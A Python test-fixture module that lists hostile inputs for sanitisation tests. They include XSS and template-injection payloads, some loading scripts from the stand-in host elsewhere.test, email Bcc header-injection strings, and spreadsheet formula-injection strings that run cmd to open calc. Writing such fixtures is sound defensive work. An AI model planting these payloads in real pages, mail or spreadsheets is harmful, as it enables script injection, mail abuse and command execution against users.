"""Hostile texts, written for these tests: markup, headers, spreadsheets, odd letters.

Whatever of the first kind is executed calls `hit(n)`, or asks another host for
something: a page that shows them as text does neither.
"""

ELSEWHERE = "//elsewhere.test/"
MARKUP = [
    "<script>hit(1)</script>",
    "<img src=x onerror=hit(2)>",
    "<svg onload=hit(3)>",
    "<svg/onload=hit&#40;4&#41;>",
    '"><img src=x onerror=hit(5)>',
    "'><img src=x onerror=hit(6)>",
    '" autofocus onfocus="hit(7)',
    "' autofocus onfocus='hit(8)",
    "` onmouseover=hit(9) `",
    "</title><script>hit(10)</script>",
    "</textarea><script>hit(11)</script>",
    "</script><script>hit(12)</script>",
    "</style><img src=x onerror=hit(13)>",
    "<!--><script>hit(14)</script>-->",
    "--><svg onload=hit(15)>",
    "]]><svg onload=hit(16)>",
    "{{constructor.constructor('hit(17)')()}}",
    "${hit(18)}#{hit(18)}<%=hit(18)%>",
    "{% include 'x' %}{{ 18|add:1 }}",
    "javascript:hit(20)",
    "java\tscript:hit(21)",
    "data:text/html,<script>hit(22)</script>",
    "<a href=javascript:hit(23)>ici</a>",
    "[ici](javascript:hit(24))",
    "![x](x' onerror='hit(25))",
    "<iframe srcdoc='<script>hit(26)</script>'>",
    "<iframe src=javascript:hit(27)>",
    "<object data=javascript:hit(28)>",
    "<details open ontoggle=hit(29)>",
    "<math><mtext></p><svg onload=hit(30)>",
    "<noscript><p title='</noscript><img src=x onerror=hit(31)>'>",
    "<form><button formaction=javascript:hit(32)>ici",
    "<base href=//elsewhere.test/>",
    "<meta http-equiv=refresh content=0;url=//elsewhere.test>",
    "<link rel=stylesheet href=//elsewhere.test/s>",
    "<script src=//elsewhere.test/x></script>",
    "<img src=//elsewhere.test/p>",
    "<style>*{background:url(//elsewhere.test)}",
    "&lt;script&gt;hit(39)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(40)&#62;",
    "%3Cscript%3Ehit(41)%3C/script%3E",
    "\\u003cscript\\u003ehit(42)\\u003c/script\\u003e",
    "\uff1cscript\uff1ehit(43)\uff1c/script\uff1e",
    "+ADw-script+AD4-hit(44)+ADw-/script+AD4-",
    "<sCr\u200bIpT>hit(45)</sCr\u200bIpT>",
    "<ſcript>hit(46)</ſcript>",
    "https://x.test/\"onmouseover='hit(47)'",
    "http://x.test/<svg/onload=hit(48)>",
    "x@x.test<img/src=x/onerror=hit(49)>",
    "<" * 60 + "img src=x onerror=hit(50)>",
    "<xmp><p title='</xmp><img src=x onerror=hit(51)>'>",
    "<select><template><img src=x onerror=hit(52)>",
]
BREAKS = ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
HEADERS = [f"Jo{one}Bcc: all@elsewhere.test" for one in BREAKS] + [
    "Jo%0d%0aBcc: all@elsewhere.test",
    "=?utf-8?q?Jo=0D=0ABcc:_all@elsewhere.test?=",
    "=?utf-8?b?Sm8NCkJjYzogYWxsQGVsc2V3aGVyZS50ZXN0?=",
    'Jo" <all@elsewhere.test>, "x',
    "Jo\r\n\r\n<b>corps</b>",
]
FORMULAS = [
    '=HYPERLINK("http://elsewhere.test","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=1+1\x0b",
]
ZALGO = "Z" + "\u0301\u0337\u035c" * 60


def shorter_than(length: int) -> list[str]:
    return [text for text in MARKUP if len(text) <= length]


def together(length: int, first: int = 0) -> str:
    """Return as many whole texts as fit in `length`, beginning with that number."""
    said = ""
    for text in MARKUP[first:] + MARKUP[:first]:
        if len(said) + len(text) + 1 <= length:
            said += text + " "
    return said.strip()
